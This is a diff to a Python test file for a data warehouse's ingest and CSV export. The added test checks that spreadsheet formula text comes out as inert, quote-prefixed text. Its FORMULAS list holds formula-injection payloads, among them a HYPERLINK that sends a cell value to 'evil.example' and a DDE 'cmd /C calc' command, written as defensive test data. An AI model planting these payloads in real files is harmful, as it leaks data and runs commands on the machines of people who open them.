@@ -3,6 +3,7 @@ seeded fuzzed file, hostile cell values."""
 
 from __future__ import annotations
 
+import csv
 import gzip
 import hashlib
 import random
@@ -14,6 +15,15 @@ import psycopg
 from sqwh.ingest import load_file
 from sqwh.warehouse import connect
 from tests.reliability.faults import FAULT_HEADER, count, write_fault_file
+
+# text a spreadsheet would run: a link that leaks a cell, a DDE command, arithmetic, a function
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+]
 
 
 def write_chk(path: Path, records: int) -> None:
@@ -145,9 +155,9 @@ def test_hostile_cells_are_stored_inert_or_quarantined(crashable: dict, tmp_path
     url = crashable["url"]
     formulas = {
         "H1": '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
-        "H2": "+cmd|' /C calc'!A0".replace("|", "¦"),  # the delimiter would split it
-        "H3": "-2+3",
-        "H4": "@SUM(1+1)",
+        "H2": FORMULAS[1].replace("|", "¦"),  # the delimiter would split it
+        "H3": FORMULAS[2],
+        "H4": FORMULAS[3],
     }
     megabyte = "X" * (1 << 20)
     rows = [row(f"N{i:04d}") for i in range(400)]
@@ -177,3 +187,48 @@ def test_hostile_cells_are_stored_inert_or_quarantined(crashable: dict, tmp_path
     assert len(quarantined) == result.rows_rejected == 1
     nul = [q for q in quarantined if q[0] == len(rows)]
     assert nul and nul[0][1] == "fault_class" and "NUL" in nul[0][2], quarantined
+
+
+def test_csv_export_keeps_formula_text_inert(tmp_path: Path) -> None:
+    """Extract text reaches the export as city names and breakdown values: a spreadsheet
+    opening `sqwh export`'s CSV must show it as text, and numbers must stay numbers."""
+    from decimal import Decimal
+    from types import SimpleNamespace
+
+    from sqwh.report.data import Figure
+    from sqwh.report.export import COLUMNS, write_csv
+
+    def figure(city: str, breakdown: str | None, change: str) -> Figure:
+        return Figure(
+            "HL_ANSWER_RATE", "CITY", city, "skill_group" if breakdown else None, breakdown,
+            Decimal(90), Decimal(100), Decimal("90.00"), "%", Decimal(85), ">=", True,
+            Decimal("91.5"), Decimal(change), None,
+        )  # fmt: skip
+
+    cities = {f"14{i:04d}": text for i, text in enumerate(FORMULAS, 1)}
+    figures = [figure(code, None, "-1.50") for code in cities]
+    figures += [figure("140001", text, "2") for text in FORMULAS]
+    data = SimpleNamespace(
+        period="2019H1",
+        publication=SimpleNamespace(publication_id=7),
+        figures=figures,
+        catalogue={"HL_ANSWER_RATE": SimpleNamespace(name_zh="人工接通率", name_en="Answer rate")},
+        cities=cities,
+    )
+    target = tmp_path / "2019H1.csv"
+    assert write_csv(data, target) == len(figures)  # type: ignore[arg-type]
+    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 names
+    with target.open(encoding="utf-8-sig", newline="") as f:
+        table = list(csv.DictReader(f))
+    assert list(table[0]) == COLUMNS
+    assert [r["city_name"] for r in table[: len(cities)]] == ["'" + t for t in FORMULAS]
+    assert [r["breakdown"] for r in table[len(cities) :]] == ["'" + t for t in FORMULAS]
+    assert {r["change"] for r in table} == {"-1.5", "2"}  # a negative number is not a formula
+    assert table[0]["indicator_name_zh"] == "人工接通率" and table[0]["meets_target"] == "true"
+    risky = [
+        (n, c, v)
+        for n, r in enumerate(table, 2)
+        for c, v in r.items()
+        if v[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in ("change", "previous_value")
+    ]
+    assert not risky, f"cells a spreadsheet would evaluate (line, column, text): {risky}"
